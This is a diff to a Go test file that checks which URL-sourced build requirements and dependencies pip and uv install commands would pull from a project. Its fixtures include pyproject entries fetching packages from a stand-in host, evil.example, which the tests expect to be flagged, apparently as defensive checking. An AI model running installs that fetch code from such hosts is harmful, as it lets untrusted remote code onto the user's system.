@@ -41,6 +41,7 @@ var pipFiles = map[string]string{
 	"bad/deep.txt":                "-r missing.txt\n",
 	"bad/enosetup.txt":            "-e ./nosetup\n",
 	"urlbuild/pyproject.toml":     "[build-system]\nrequires = [\"setuptools @ git+https://evil.example/setuptools\"]\n",
+	"urldep/pyproject.toml":       "[project]\nname = \"d\"\ndependencies = [\"dill @ git+https://github.com/uqfoundation/dill@2308ffb; python_version>='3.15'\"]\n[project.optional-dependencies]\nx = [\"y @ https://evil.example/y.zip\"]\n",
 	"dist/x-1.0-py3-none-any.whl": "",
 }
 
@@ -111,6 +112,17 @@ func TestPipInstallsWhatTheProjectDeclares(t *testing.T) {
 		{"pip install", "pip install -r bad/deep.txt", "does not exist"},
 		{"pip install", "pip install -r bad/enosetup.txt", "no Python project folder"},
 		{"pip install", "pip install -e ./urlbuild", "git+https://evil.example"},
+		// --no-deps installs none of the declared dependencies, but still
+		// the build backend's requirements (--no-build-isolation leaves
+		// those out too).
+		{"pip install", "pip install ./urldep --no-deps", ""},
+		{"pip install", "pip install -e ./urldep[x] --no-deps", ""},
+		{"uv pip install", "uv pip install --no-deps ./urldep", ""},
+		{"pip install", "pip install ./urldep", "git+https://github.com/uqfoundation/dill"},
+		{"pip install", "pip install ./urldep --no-build-isolation", "git+https://github.com/uqfoundation/dill"},
+		{"pip install", "pip install -e ./urlbuild --no-deps", "git+https://evil.example"},
+		{"pip install", "pip install -e ./urlbuild --no-deps --no-build-isolation", ""},
+		{"pip install", "pip install --no-deps -r bad/url.txt", "bad/url.txt, line 2"},
 		{"pip install", "pip install -c ../x.txt .", "outside the project"},
 		{"pip install", "pip install --group evil", "https://evil.example"},
 		{"pip install", "pip install --group nested", "https://evil.example"},
